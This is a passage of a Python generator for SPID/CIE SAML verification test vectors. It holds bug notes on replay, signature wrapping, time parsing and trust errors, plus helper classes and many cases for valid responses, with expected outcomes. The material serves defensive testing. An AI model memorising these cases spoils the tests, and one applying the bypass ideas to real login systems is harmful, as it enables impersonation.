        description="No Audience names this SP, in every AudienceRestriction (exact string): an Assertion issued to another SP could be replayed here.",
    ),
    "ExpiredAssertionReplay": dict(
        bugType="MISSING_CHECK", description="NotOnOrAfter is past (equality is expired, SAML core 2.5.1.2): an old Assertion replayed."
    ),
    "TimeBoundary": dict(
        bugType="EDGE_CASE",
        description="Both sides of a time bound, to the second and to the millisecond, with and without clock skew: IssueInstant <= now + skew and >= request IssueInstant - skew and >= now - 300 s - skew; NotBefore <= now + skew; now - skew < NotOnOrAfter. Times are compared to the nanosecond.",
    ),
    "TimeFormat": dict(
        bugType="MISSING_CHECK",
        description="SAML times are xs:dateTime in UTC written with Z (SAML core 1.3.3): a missing Z, a numeric offset (even +00:00), a space or lowercase separator, hour 24, second 60, an impossible date, a date alone are saml.time.invalid. A lenient RFC 3339 parser accepts several of these.",
    ),
    "LevelDowngrade": dict(
        bugType="MISSING_CHECK",
        description="The returned SPID level does not satisfy the request: a lower level (except under maximum), or an equal level under better.",
    ),
    "SpidHigherLevelAllowed": dict(
        bugType="EDGE_CASE",
        description="SPID Regole Tecniche (AuthnRequest, N.B.): an authentication at a higher level than requested must not cause a negative outcome, even under exact or maximum, which plain SAML would refuse.",
        links=[RT],
    ),
    "UnknownLevel": dict(
        bugType="MISSING_CHECK",
        description="AuthnContextClassRef must be exactly one of https://www.spid.gov.it/SpidL1, SpidL2, SpidL3 (case-sensitive, after trimming): anything else is saml.authn_context.invalid, checked before the level comparison.",
    ),
    "StatusFailure": dict(
        bugType="BASIC",
        description="A non-Success top-level StatusCode ends the verification with saml.status.failure (the caller shows the SPID error: StatusMessage 'ErrorCode nrNN'), even when a valid Assertion follows.",
    ),
    "UnauthenticatedStatus": dict(
        bugType="EDGE_CASE",
        description="A failure Status in an unsigned Response is still saml.status.failure, but its details are unauthenticated; a Response signature, when present, is verified first and wins.",
    ),
    "SubjectConfirmation": dict(
        bugType="MISSING_CHECK",
        description="Exactly one SubjectConfirmation, method bearer, with SubjectConfirmationData Recipient, NotOnOrAfter and InResponseTo (SPID); a NameID of format transient with a NameQualifier; SPNameQualifier, when present, equal to this SP.",
    ),
    "UnknownCondition": dict(
        bugType="MISSING_CHECK",
        description="SAML core 2.5.1: a condition the verifier does not understand makes the Assertion indeterminate. Only AudienceRestriction, OneTimeUse and ProxyRestriction are accepted.",
    ),
    "AttributeAmbiguity": dict(
        bugType="PARSER_DIFFERENTIAL",
        description="SPID attributes are single-valued: two values, the same Name twice, two AttributeStatements or markup inside a value are saml.attribute.invalid, so that no reader takes the first while another takes the last.",
    ),
    "AttributeFormat": dict(
        bugType="MISSING_CHECK",
        description="Identity attributes have a fixed form: fiscalNumber 'TINIT-' + a code, dateOfBirth YYYY-MM-DD and a real date, name and familyName not empty.",
    ),
    "Tolerance": dict(
        bugType="EDGE_CASE",
        description="A valid Response in a form a too-strict verifier refuses: whitespace around text values, other namespace prefixes or default namespaces, fractional seconds, no Response signature, no KeyInfo, other allowed algorithms, optional elements present or absent.",
    ),
    "OptionalResponseSignature": dict(
        bugType="BASIC",
        description="SPID: the Assertion must be signed, the Response may be (Regole Tecniche, Response 'SI PUO''). A present Response signature is verified; an absent one is not an error.",
        links=[RT],
    ),
    "CheckOrder": dict(bugType="EDGE_CASE", description="Two defects on purpose: the expected code pins which check comes first."),
    "CieProfile": dict(
        bugType="EDGE_CASE",
        description='CIE ID profile: Issuer without Format (or the entity format), NameID with SPNameQualifier = the SP, attributes typed xsd:string (dateOfBirth included), Shibboleth-style signatures with InclusiveNamespaces PrefixList="xsd" and base64 broken by &#13; line ends, milliseconds, SubjectLocality and Address.',
        links=[CIE_DOCS],
    ),
    "PrefixList": dict(
        bugType="EDGE_CASE",
        description='The xsd prefix is declared on the Response and the Assertion and used only inside xsi:type values: exc-c14n renders its declaration only because of InclusiveNamespaces PrefixList="xsd", so it is signed; changing the binding after signing breaks the digest. Without PrefixList the binding is not signed and the same document signed that way is valid.',
    ),
    "WrongTrust": dict(
        bugType="AUTH_BYPASS",
        description="A Response from an IdP that is not in this kind's trust (a SPID IdP against the CIE metadata, an entityID that differs only by a port): saml.issuer.invalid.",
    ),
}


# ------------------------------------------------------------------ output: folders, vector files, cases


class Out:
    """One output folder (spid/ or cie/)."""

    def __init__(self, kind, folder, profile, defaults, context):
        self.kind, self.folder, self.profile = kind, folder, profile
        self.defaults = defaults
        self.context = context
        self.files = {}  # relpath -> (bytes, description)
        self.vfiles = []

    def base(self, **kw):
        return P(self.defaults, **kw)

    def put(self, relpath, data, desc):
        if relpath in self.files:
            assert self.files[relpath][0] == data, relpath
            return relpath
        self.files[relpath] = (data, desc)
        return relpath

    def doc(self, slug, desc, p=None, edit=None, post=None, decl=True, ext="xml"):
        """Build, sign and store a Response; returns its path relative to the vector files."""
        rel = f"responses/{slug}.{ext}"
        if rel in self.files:
            raise AssertionError("duplicate file " + rel)
        p = p or self.base()
        tree = tree_of(p, slug)
        if edit:
            edit(tree)
        text = build(tree, decl)
        if post:
            text = post(text)
        data = text.encode("utf-8") if isinstance(text, str) else text
        return self.put(rel, data, desc)

    def raw(self, slug, desc, data, ext="xml"):
        return self.put(f"responses/{slug}.{ext}", data.encode("utf-8") if isinstance(data, str) else data, desc)

    def vfile(self, name, title, header):
        vf = VFile(self, name, title, header)
        self.vfiles.append(vf)
        return vf


class VFile:
    def __init__(self, out, name, title, header):
        self.out, self.name, self.title, self.header = out, name, title, header
        self.groups = []
        self.next_id = 1

    def group(self, source, trust=("metadata/idp.xml",), **context):
        ctx = dict(self.out.context)
        ctx.update(context)
        for k in [k for k, v in ctx.items() if v is None]:
            del ctx[k]
        g = Group(self, source, list(trust), ctx)
        self.groups.append(g)
        return g


class Group:
    def __init__(self, vf, source, trust, context):
        self.vf, self.source, self.trust, self.context = vf, source, trust, context
        self.tests = []

    def add(self, comment, inp, result, code=None, identity=None, flags=(), context=None):
        for f in flags:
            assert f in NOTES, f
        t = {"tcId": self.vf.next_id, "comment": comment}
        self.vf.next_id += 1
        if context:
            t["context"] = context
        t["input"] = {"file": inp} if isinstance(inp, str) else inp
        t["result"] = result
        if code:
            t["expectedError"] = code
        if identity is not None:
            t["identity"] = identity
        t["flags"] = list(flags)
        self.tests.append(t)
        return t

    def valid(self, comment, inp, identity, flags=(), context=None):
        return self.add(comment, inp, "valid", identity=identity, flags=flags, context=context)

    def invalid(self, comment, inp, code, flags=(), context=None):
        return self.add(comment, inp, "invalid", code=code, flags=flags, context=context)

    def acceptable(self, comment, inp, identity=None, flags=(), context=None):
        return self.add(comment, inp, "acceptable", identity=identity, flags=flags, context=context)


def input_bytes(out, t):
    inp = t["input"]
    if "file" in inp:
        return out.files[inp["file"]][0]
    if "text" in inp:
        return inp["text"].encode("utf-8")
    return base64.b64decode(inp["base64"])


def naive_verifies(root, s, certs):
    """A generic XML-DSig check of one Signature, as a naive library does it: the Reference resolved by
    ID anywhere in the document (first match), KeyInfo ignored, any of `certs` may have signed."""
    try:
        si = s.find(q(DS, "SignedInfo"))
        ref = si.find(q(DS, "Reference"))
        uri = ref.get("URI") or ""
        root2 = copy.deepcopy(root)
        path = []
        e = s
        while e is not root:
            path.append(e.getparent().index(e))
            e = e.getparent()
        s2 = root2
        for i in reversed(path):
            s2 = s2[i]
        target = root2 if not uri else next(x for x in root2.iter() if isinstance(x.tag, str) and x.get("ID") == uri[1:])
        if target in s2.iterancestors():
            remove_keep_tail(s2)
        inc = ref.find(".//" + q(EXC, "InclusiveNamespaces"))
        prefixes = (inc.get("PrefixList") or "").split() if inc is not None else []
        dm = ref.find(q(DS, "DigestMethod")).get("Algorithm")
        if hashlib.new(SIGN_DM[dm], c14n(target, prefixes=prefixes)).digest() != base64.b64decode(
            "".join(ref.find(q(DS, "DigestValue")).text.split())
        ):
            return False
        sm = si.find(q(DS, "SignatureMethod")).get("Algorithm")
        value = base64.b64decode("".join(s.find(q(DS, "SignatureValue")).text.split()))
        for der in certs:
            try:
                x509.load_der_x509_certificate(der).public_key().verify(value, c14n(si), padding.PKCS1v15(), SIGN_SM[sm]())
                return True
            except Exception:
                pass
    except Exception:
        return False
    return False


def self_check(out):
    """Runs every case through Model; returns per-case (code or 'valid', step) and aborts on disagreement."""
    problems = []
    stats = {"signatures": 0, "premises": 0}
    for vf in out.vfiles:
        for g in vf.groups:
            trust = trusted_certs([out.files[p][0] for p in g.trust])
            for t in g.tests:
                ctx = dict(g.context)
                ctx.update(t.get("context", {}))
                model = Model(out.profile, trust, ctx)
                where = f"{out.folder}/{vf.name} tcId {t['tcId']} ({t['comment'][:70]})"
                try:
                    ident = model.run(input_bytes(out, t))
                    t["_model"] = ("valid", "-", "")
                    if t["result"] == "invalid":
                        problems.append(f"{where}: expected {t.get('expectedError')}, the model accepts")
                    want = t.get("identity")
                    if want:
                        for k, v in want.items():
                            if ident.get(k) != v:
                                problems.append(f"{where}: identity {k}: expected {v!r}, model {ident.get(k)!r}")
                    if t["result"] == "valid" and not want:
                        problems.append(f"{where}: a valid case without identity")
                    if t["result"] == "valid" and model.signatures_checked == 0:
                        problems.append(f"{where}: valid without a verified signature")
                except Fail as e:
                    t["_model"] = (e.code, e.step, e.why)
                    if t["result"] == "valid":
                        problems.append(f"{where}: expected valid, model {e.code} at {e.step}: {e.why}")
                    elif t["result"] == "invalid" and t.get("expectedError") not in (None, e.code):
                        problems.append(f"{where}: expected {t['expectedError']}, model {e.code} at {e.step}: {e.why}")
                stats["signatures"] += model.signatures_checked
                # the premise of each wrapping case: a naive verifier finds a valid signature somewhere
                certs = [c for v in trust.values() for c in v]
                if "SignatureWrapping" in t["flags"] and t.get("expectedError") == "saml.structure.invalid":
                    root = parse(input_bytes(out, t))
                    if not any(naive_verifies(root, sg, certs) for sg in root.iter(q(DS, "Signature"))):
                        problems.append(f"{where}: wrapping case, but no signature in it verifies naively")
                    stats["premises"] += 1
                # every signature of a valid document verifies on its own
                if t["result"] == "valid":
                    raw = input_bytes(out, t)
                    if ctx.get("input_encoding", "base64") == "base64":
                        raw = base64.b64decode(bytes(b for b in raw if b not in b" \t\r\n"))
                    root = parse(raw)
                    for sg in root.iter(q(DS, "Signature")):
                        if not naive_verifies(root, sg, certs):
                            problems.append(f"{where}: a signature of a valid case does not verify on its own")
    return problems, stats


def vector_json(vf):
    tests = [t for g in vf.groups for t in g.tests]
    used = sorted({f for t in tests for f in t["flags"]})
    notes = {}
    for f in used:
        n = NOTES[f]
        notes[f] = {k: n[k] for k in ("bugType", "description", "effect", "cves", "links") if k in n}
    obj = {
        "schema": "idbridge-vectors/1",
        "kind": vf.out.kind,
        "numberOfTests": len(tests),
        "header": vf.header,
        "notes": notes,
        "testGroups": [
            {
                "source": g.source,
                "trust": {"idp_metadata": g.trust},
                "context": g.context,
                "tests": [{k: v for k, v in t.items() if not k.startswith("_")} for t in g.tests],
            }
            for g in vf.groups
        ],
    }
    return json.dumps(obj, indent=2, ensure_ascii=False) + "\n"


# ------------------------------------------------------------------ edit helpers (before signing: El trees; after: text)


def node(R, path):
    return R if not path else R.find(path)


def sa(path, k, v):
    return lambda R: node(R, path).set(k, v)


def da(path, k):
    return lambda R: node(R, path).delete(k)


def st(path, text):
    def f(R):
        node(R, path).text = text

    return f


def rm(path):
    return lambda R: R.remove(path)


def put(path, new):
    """Replace the element at `path` by `new` (an El, a Sig or a function of the tree giving one)."""

    def f(R):
        parent, _, last = path.rpartition("/")
        p = node(R, parent)
        p.children[p.index(p.find(last))] = new(R) if callable(new) else new

    return f


def seq(*fns):
    def f(R):
        for fn in fns:
            fn(R)

    return f


def attribute_el(R, name):
    A = [c for c in R.children if isinstance(c, El) and c.local == "Assertion"][0]
    stmt = A.kids("AttributeStatement")[0]
    return [a for a in stmt.kids("Attribute") if a.get("Name") == name][0]


def set_value(name, raw_text):
    def f(R):
        attribute_el(R, name).kids("AttributeValue")[0].text = raw_text

    return f


def reprefix(old, new):
    """Rename prefix `old` to `new` (\"\" = default namespace) on every element and declaration."""

    def f(R):
        for e in R.walk():
            if e.name.startswith(old + ":"):
                e.name = (new + ":" if new else "") + e.local
            e.attrs = [(("xmlns:" + new if new else "xmlns") if k == "xmlns:" + old else k, v) for k, v in e.attrs]

    return f


def rep(old, new):
    return lambda s: one(s, old, new)


def chain(*fns):
    def f(s):
        for fn in fns:
            s = fn(s)
        return s

    return f


def lx(fn):
    """Structural surgery on the signed text with lxml (re-serialized; c14n-neutral)."""

    def f(s):
        root = parse(s)
        res = fn(root)
        root = res if isinstance(res, etree._Element) else root
        return serialize(root, decl=s.startswith("<?xml"))

    return f


def q(ns, name):
    return "{%s}%s" % (ns, name)


def lx_assertion(root):
    return root.find(q(SAML, "Assertion"))


# ------------------------------------------------------------------ SPID cases

RT_RESP = (
    "SPID Regole Tecniche (italia/spid-regole-tecniche@1e83863c single-sign-on.rst: Response, Assertion, Processamento della Response)"
)
SRC_SPEC = "idbridge SPID/CIE verification spec (check order S1-S11)"


def spid_cases(out):
    B = out.base()
    ident = identity_of(B)
    II = "2026-03-01T10:00:10Z"

    # ---------------------------------------------------------- valid.json
    vf = out.vfile(
        "valid.json",
        "valid Responses and the variants a too-strict verifier refuses",
        [
            "SPID SAML 2.0 Responses (HTTP-POST binding) that must be accepted: the reference Response and its variants in forms a too-strict verifier refuses.",
            f"Generated by {GEN} with our own test IdP ({SPID_IDP}, key test-vectors/keys/rsa2048.pk8.pem, metadata/idp.xml); test keys only.",
            f"Context: SP {SP}, ACS {ACS}, AuthnRequest {SPID_REQ} sent {SPID_REQ_II}, SpidL2 minimum, now {SPID_NOW}, no skew. The reference Response: IssueInstant {II}, AuthnInstant 2026-03-01T10:00:05Z, NotBefore {II}, NotOnOrAfter 2026-03-01T10:05:10Z, Response and Assertion signed (rsa-sha256, sha256, exc-c14n) with the IdP certificate in KeyInfo.",
        ],
    )
    g = vf.group(f"{RT_RESP}; SAML core 2.0 (OASIS saml-core-2.0-os) sections 2-3 and 5; {SRC_SPEC}. Responses generated by {GEN}.")
    f = out.doc(
        "valid",
        "the reference Response: Response and Assertion signed by the IdP (rsa2048, rsa-sha256, exc-c14n, certificate in KeyInfo), SessionIndex present, six attributes",
    )
    g.valid(
        "the reference Response: Response and Assertion signed by the IdP with its metadata certificate in KeyInfo; every check passes",
        f,
        ident,
        ["OptionalResponseSignature"],
    )
    f = out.doc(
        "valid-assertion-signed-only", "the reference Response without a Response signature (the Assertion is signed)", B.but(resp_sig=None)
    )
    g.valid("no Response signature, the Assertion signed: SPID lets the Response be unsigned", f, ident, ["OptionalResponseSignature"])
    f = out.doc("valid-no-keyinfo", "Response and Assertion signatures without ds:KeyInfo", B.but(cert=None))
    g.valid("both signatures without KeyInfo: the key comes from the metadata, never from the message", f, ident, ["Tolerance"])
    f = out.doc(
        "valid-keyinfo-keyname",
        "the Assertion signature's KeyInfo holds only a ds:KeyName (no certificate); Response unsigned",
        B.but(
            resp_sig=None,
            assert_sig=Sig(keyinfo=None, keyinfo_extra=El("ds:KeyInfo", children=[El("ds:KeyName", text="idp.idbridge.test")])),
        ),
    )
    g.valid(
        "the Assertion signature's KeyInfo holds only a KeyName: no certificate to compare, the metadata key verifies",
        f,
        ident,
        ["Tolerance"],
    )
    f = out.doc("valid-no-sessionindex", "AuthnStatement without SessionIndex", B.but(session_index=False))
    g.valid(
        "AuthnStatement without SessionIndex (what SPID asks for L2/L3); SessionIndex is never a reason to reject either way",
        f,
        ident,
        ["Tolerance"],
    )
    f = out.doc("valid-response-issuer-no-format", "the Response Issuer has no Format attribute", edit=da("Issuer", "Format"))
    g.valid(
        "the Response Issuer has no Format: optional on the Response (SPID requires it on the Assertion Issuer only)",
        f,
        ident,
        ["Tolerance"],
    )
    ws = "\n      "
    f = out.doc(
        "valid-whitespace-issuer-nameid",
        "whitespace (line breaks, indentation) around the text of both Issuers and of the NameID, before signing",
        edit=seq(
            st("Issuer", ws + esc(SPID_IDP) + "\n  "),
            st("Assertion/Issuer", ws + "  " + esc(SPID_IDP) + "\n    "),
            lambda R: setattr(
                R.find("Assertion/Subject/NameID"), "text", "\n        " + R.find("Assertion/Subject/NameID").text + "\n      "
            ),
        ),
    )
    g.valid(
        "line breaks and indentation around the Issuer texts and the NameID (as the Regole Tecniche code sample writes them): values are trimmed",
        f,
        ident,
        ["Tolerance"],
    )

    def pad_values(R):
        R.find("Assertion/Conditions/AudienceRestriction/Audience").text = "\n          " + esc(SP) + "\n        "
        R.find("Assertion/AuthnStatement/AuthnContext/AuthnContextClassRef").text = " \t" + LVL + "SpidL2\n      "
        for a in R.find("Assertion/AttributeStatement").kids("Attribute"):
            v = a.kids("AttributeValue")[0]
            v.text = "\n          " + v.text + "\n        "
        R.find("Assertion/Issuer").set("Format", " " + ENTITY + "\n")

    f = out.doc(
        "valid-whitespace-values",
        "whitespace around the Audience, the AuthnContextClassRef, every AttributeValue and the Assertion Issuer's Format",
        edit=pad_values,
    )
    g.valid(
        "whitespace around the Audience, the AuthnContextClassRef, every AttributeValue and the Assertion Issuer Format value: trimmed (interior whitespace would be kept)",
        f,
        ident,
        ["Tolerance"],
    )
    f = out.doc(
        "valid-prefixes-saml2",
        "the same Response written with the prefixes saml2p: and saml2: (as Shibboleth IdPs do)",
        edit=seq(reprefix("samlp", "saml2p"), reprefix("saml", "saml2")),
    )
    g.valid(
        "prefixes saml2p:/saml2: instead of samlp:/saml: (signed that way): elements are matched by namespace, never by prefix",
        f,
        ident,
        ["Tolerance"],
    )
    f = out.doc(
        "valid-default-ns-protocol",
        "protocol elements (Response, Status, StatusCode) in the default namespace, assertion elements with saml:",
        edit=reprefix("samlp", ""),
    )
    g.valid("the protocol namespace as the default namespace (Response, Status, StatusCode unprefixed)", f, ident, ["Tolerance"])

    def default_ns_assertion(R):
        A = R.find("Assertion")
        for e in A.walk():
            if e.name.startswith("saml:"):
                e.name = e.local
        A.attrs.insert(0, ("xmlns", SAML))

    f = out.doc(
        "valid-default-ns-assertion",
        "the Assertion and its children unprefixed, in a default namespace declared on the Assertion",
        edit=default_ns_assertion,
    )
    g.valid(
        "the assertion namespace as the default namespace declared on the Assertion (the Response Issuer keeps saml:)",
        f,
        ident,
        ["Tolerance"],
    )
    f = out.doc(
        "valid-ds-default-ns",
        "both Signatures declare the XML-DSig namespace as default namespace (no ds: prefix)",
        B.but(resp_sig=Sig(keyinfo=("spid-idp",), p=""), assert_sig=Sig(keyinfo=("spid-idp",), p="")),
    )
    g.valid(
        'the Signatures use the XML-DSig namespace as their default namespace (no prefix); c14n of SignedInfo renders xmlns="...xmldsig#"',
        f,
        ident,
        ["Tolerance"],
    )
    ms = B.but(ii="2026-03-01T10:00:10.123Z", authn="2026-03-01T10:00:05.045Z", noa="2026-03-01T10:05:10.123Z")
    f = out.doc("valid-milliseconds", "every timestamp with milliseconds (IssueInstant .123, AuthnInstant .045, NotOnOrAfter .123)", ms)
    g.valid(
        "milliseconds in every timestamp (SPID examples write 2017-03-01T15:05:10.531Z); authn_instant is returned as written",
        f,
        identity_of(ms),
        ["Tolerance"],
    )
    ns = B.but(ii="2026-03-01T10:00:10.123456789Z", authn="2026-03-01T10:00:05.000000000001Z", noa="2026-03-01T10:05:10.5Z")
    f = out.doc("valid-fraction-digits", "fractions of 9 digits (IssueInstant), 12 digits (AuthnInstant) and 1 digit (NotOnOrAfter)", ns)
    g.valid(
        "fractional seconds of 1, 9 and 12 digits: any number of digits is xs:dateTime (kept to the nanosecond)",
        f,
        identity_of(ns),
        ["Tolerance"],
    )
    f = out.doc(
        "valid-assertion-issueinstant-earlier",
        "Assertion IssueInstant 2 s before the Response IssueInstant",
        B.but(a_ii="2026-03-01T10:00:08Z"),
    )
    g.valid(
        "the Assertion IssueInstant differs from the Response's (2 s earlier): no relation between them is required",
        f,
        ident,
        ["Tolerance"],
    )

    def no_nameformat(R):
        for a in R.find("Assertion/AttributeStatement").kids("Attribute"):
            a.delete("NameFormat")
            a.kids("AttributeValue")[0].delete("xsi:type")

    f = out.doc("valid-attributes-untyped", "attributes without NameFormat and AttributeValues without xsi:type", edit=no_nameformat)
    g.valid("attributes without NameFormat (basic is the default) and values without xsi:type (only recommended)", f, ident, ["Tolerance"])
    f = out.doc(
        "valid-dateofbirth-string",
        "dateOfBirth typed xs:string instead of xs:date",
        edit=lambda R: attribute_el(R, "dateOfBirth").kids("AttributeValue")[0].set("xsi:type", "xs:string"),
    )
    g.valid("dateOfBirth typed xs:string: xsi:type never chooses the parser", f, ident, ["Tolerance"])
    f = out.doc(
        "valid-extensions",
        "the Response carries samlp:Extensions with a foreign element (signed)",
        edit=lambda R: R.insert_before(
            "Status", El("samlp:Extensions", children=[El("idbr:Trace", [("xmlns:idbr", IDBR)], text="request served by node 7")])
        ),
    )
    g.valid("samlp:Extensions with a foreign element, between the Signature and Status: allowed and ignored", f, ident, ["Tolerance"])
    f = out.doc(
        "valid-onetimeuse-proxyrestriction",
        "Conditions with OneTimeUse and ProxyRestriction besides the AudienceRestriction",
        edit=lambda R: R.find("Assertion/Conditions").children.extend(
            [El("saml:OneTimeUse"), El("saml:ProxyRestriction", [("Count", "0")])]
        ),
    )
    g.valid(
        "Conditions also holding OneTimeUse and ProxyRestriction: both accepted (replay protection is the caller's)",
        f,
        ident,
        ["Tolerance"],
    )
    f = out.doc(
        "valid-two-audiences",
        "one AudienceRestriction with two Audiences, another SP first and this SP second",
        edit=lambda R: R.find("Assertion/Conditions/AudienceRestriction").children.insert(
            0, El("saml:Audience", text="https://other-sp.idbridge.test")
        ),
    )
    g.valid(
        "one AudienceRestriction listing another SP then this SP: Audiences inside one restriction are alternatives",
        f,
        ident,
        ["Tolerance"],
    )
    f = out.doc(
        "valid-two-audiencerestrictions",
        "two AudienceRestrictions, both listing this SP (the second also another SP)",
        edit=lambda R: R.find("Assertion/Conditions").children.append(
            El(
                "saml:AudienceRestriction",
                children=[El("saml:Audience", text=esc(SP)), El("saml:Audience", text="https://other-sp.idbridge.test")],
            )
        ),
    )
    g.valid("two AudienceRestrictions, each listing this SP: every restriction is satisfied", f, ident, ["Tolerance"])
    f = out.doc(
        "valid-rsa-sha512",
        "both signatures rsa-sha512 with sha512 digests",
        B.but(resp_sig=Sig(sm=RSA_SHA512, dm=SHA512), assert_sig=Sig(sm=RSA_SHA512, dm=SHA512)),
    )
    g.valid("rsa-sha512 signatures with sha512 digests (SHA-256 or better)", f, ident, ["Tolerance"])
    f = out.doc(
        "valid-rsa-sha384",
        "both signatures rsa-sha384 with sha384 digests",
        B.but(resp_sig=Sig(sm=RSA_SHA384, dm=SHA384), assert_sig=Sig(sm=RSA_SHA384, dm=SHA384)),
    )
    g.valid("rsa-sha384 signatures with sha384 digests", f, ident, ["Tolerance"])
    f = out.doc(
        "valid-prefixlist",
        'both exc-c14n transforms carry InclusiveNamespaces PrefixList="xs xsi"',
        B.but(resp_sig=Sig(prefix_list="xs xsi"), assert_sig=Sig(prefix_list="xs xsi")),
    )
    g.valid(
        'exc-c14n transforms with InclusiveNamespaces PrefixList="xs xsi": the listed declarations are signed too', f, ident, ["Tolerance"]
    )
    f = out.doc(
        "valid-base64-one-line", "SignatureValue and X509Certificate on one line", B.but(resp_sig=Sig(fmt="one"), assert_sig=Sig(fmt="one"))
    )
    g.valid("base64 values on one line, no line breaks", f, ident, ["Tolerance"])
    f = out.doc(
        "valid-base64-santuario",
        "SignatureValue and X509Certificate broken every 76 characters by &#13; + line feed (Apache Santuario)",
        B.but(resp_sig=Sig(fmt="santuario"), assert_sig=Sig(fmt="santuario")),
    )
    g.valid(
        "base64 values broken every 76 characters by a CR written as &#13; and a line feed, as Java IdPs write them: XML whitespace is dropped before decoding, and the Response digest covers the Assertion's &#13; (c14n writes &#xD;)",
        f,
        ident,
        ["Tolerance"],
    )
    f = out.doc(
        "valid-base64-spaces",
        "SignatureValue and X509Certificate in 76-character chunks separated by spaces",
        B.but(resp_sig=Sig(fmt="spaces76"), assert_sig=Sig(fmt="spaces76")),
    )
    g.valid("base64 values in 76-character chunks separated by spaces", f, ident, ["Tolerance"])
    niccolo = dict(
        GIULIA,
        name="Niccolò Maria",
        familyName="D'Angelo-Rossi",
        fiscalNumber="TINIT-" + codice_fiscale("DNGNCL90E12F839"),
        dateOfBirth="1990-05-12",
    )
    pn = B.but(person=niccolo)
    f = out.doc("valid-non-ascii", "name 'Niccolò Maria' (UTF-8, interior space) and familyName \"D'Angelo-Rossi\"", pn)
    g.valid(
        "a non-ASCII given name with an interior space and a family name with an apostrophe: read as written (only the ends are trimmed)",
        f,
        identity_of(pn),
        ["Tolerance"],
    )
    f = out.doc(
        "valid-char-refs-cdata",
        "values written with character references (&#71;iulia) and a CDATA section (Bian<![CDATA[chi]]>) before signing",
        edit=seq(set_value("name", "&#71;iulia"), set_value("familyName", "Bian<![CDATA[chi]]>")),
    )
    g.valid(
        "values written with a character reference and a CDATA section when signed: the parser gives 'Giulia' and 'Bianchi', c14n gives the same bytes",
        f,
        ident,
        ["TextForms"],
    )
    f = out.doc("valid-no-xml-declaration", "the reference Response without the XML declaration", decl=False)
    g.valid("no XML declaration", f, ident, ["Tolerance"])
    f = out.doc(
        "valid-crlf", "the reference Response with every line feed turned into CR LF after signing", post=lambda s: s.replace("\n", "\r\n")
    )
    g.valid(
        "CR LF line ends throughout, introduced after signing: the parser normalizes them to LF (XML 1.0 section 2.11), so c14n and the digests are unchanged",
        f,
        ident,
        ["TextForms"],
    )

    mp = B.but(resp_sig=Sig(fmt="one"), assert_sig=Sig(fmt="one"))
    f = out.raw(
        "valid-minified",
        "the reference Response with no whitespace between elements and one-line base64, signed that way",
        build(tree_of(mp, "valid-minified"), minified=True),
    )
    g.valid("no whitespace at all between elements (as many IdPs send it)", f, ident, ["Tolerance"])
    full = dict(
        GIULIA,
        mobilePhone="+393331234567",
        address="Via Nazionale 1 00184 Roma RM",
        placeOfBirth="H501",
        countyOfBirth="RM",
        gender="F",
        idCard="CartaIdentita CA00000AA Comune di Roma 2020-01-10 2031-07-14",
        expirationDate="2031-07-14",
        digitalAddress="giulia.bianchi@pec.example.org",
    )
    pf = B.but(
        person=full,
        attr_order=(
            "spidCode",
            "name",
            "familyName",
            "placeOfBirth",
            "countyOfBirth",
            "dateOfBirth",
            "gender",
            "fiscalNumber",
            "idCard",
            "expirationDate",
            "mobilePhone",
            "email",
            "address",
            "digitalAddress",
        ),
    )
    f = out.doc("valid-full-attribute-set", "fourteen SPID attributes (spidCode ... digitalAddress)", pf)
    g.valid(
        "fourteen SPID attributes: the four mapped ones become identity fields, every other one is returned in attributes",
        f,
        identity_of(pf),
        ["Tolerance"],
    )
    f = out.doc(
        "valid-subjectlocality-sessionnotonorafter",
        "AuthnStatement with SessionNotOnOrAfter and a SubjectLocality",
        edit=seq(
            sa("Assertion/AuthnStatement", "SessionNotOnOrAfter", "2026-03-01T18:00:05Z"),
            lambda R: R.find("Assertion/AuthnStatement").children.insert(0, El("saml:SubjectLocality", [("Address", "203.0.113.7")])),
        ),
    )
    g.valid("AuthnStatement with SessionNotOnOrAfter and SubjectLocality: ignored", f, ident, ["Tolerance"])
    f = out.doc(
        "valid-old-authninstant", "AuthnInstant the day before (an existing SSO session reused)", B.but(authn="2026-02-28T18:30:00Z")
    )
    g.valid(
        "AuthnInstant the day before the request (an IdP session reused): AuthnInstant is only checked for its form",
        f,
        identity_of(B.but(authn="2026-02-28T18:30:00Z")),
        ["Tolerance"],
    )
    f = out.doc(
        "valid-status-message",
        "Success StatusCode with a StatusMessage",
        edit=lambda R: R.find("Status").children.append(El("samlp:StatusMessage", text="Autenticazione riuscita")),
    )
    g.valid("a Success Status that also carries a StatusMessage", f, ident, ["Tolerance"])
    f = out.doc(
        "valid-status-value-whitespace",
        "the Success StatusCode Value written with surrounding whitespace",
        edit=sa("Status/StatusCode", "Value", "\n" + SUCCESS + " "),
    )
    g.valid(
        "the StatusCode Value with whitespace around it (the attribute value is trimmed; the parser turns the line feed into a space)",
        f,
        ident,
        ["Tolerance"],
    )
    f = out.doc(
        "valid-spnamequalifier", "NameID with SPNameQualifier equal to this SP", edit=sa("Assertion/Subject/NameID", "SPNameQualifier", SP)
    )
    g.valid("NameID with SPNameQualifier equal to this SP", f, ident, ["Tolerance"])
    f = out.doc("valid-no-attributes", "no AttributeStatement at all", B.but(attr_order=()))
    g.acceptable(
        "no AttributeStatement: the Response is valid but carries no fiscalNumber; requiring attributes is the SP's policy, so both outcomes are allowed (accepted: no subject_id)",
        f,
        {"system": "spid", "issuer": SPID_IDP, "level": "SpidL2", "loa": "substantial", "attributes": {}},
        ["Tolerance"],
    )
    f = out.doc("valid-only-fiscalnumber", "only the fiscalNumber attribute", B.but(attr_order=("fiscalNumber",)))
    g.acceptable(
        "only fiscalNumber released: valid for the verifier, the SP may require more; accepted, it gives just subject_id",
        f,
        {"system": "spid", "issuer": SPID_IDP, "subject_id": GIULIA["fiscalNumber"], "level": "SpidL2", "attributes": {}},
        ["Tolerance"],
    )

    g = vf.group(
        f"SAML metadata 2.0 (saml-metadata-2.0-os) 2.4.1 KeyDescriptor, 2.3.2 EntitiesDescriptor; {RT_RESP}; {SRC_SPEC}",
        trust=["metadata/registry.xml"],
    )
    g.valid(
        "the reference Response verified against the registry (an EntitiesDescriptor of two IdPs)",
        "responses/valid.xml",
        ident,
        ["Tolerance"],
    )
    p2 = B.but(issuer=SPID_IDP2, name_qualifier=SPID_IDP2, key="rsa4096", cert="spid-idp2")
    f = out.doc("valid-idp2", f"a Response of the second IdP {SPID_IDP2}, signed with its rsa4096 key", p2)
    g.valid("a Response of the second IdP of the registry, signed with that IdP's RSA-4096 key", f, identity_of(p2), ["Tolerance"])
    g = vf.group(f"SAML metadata 2.0; {SRC_SPEC}: the trust is a list of metadata files", trust=["metadata/idp.xml", "metadata/idp2.xml"])
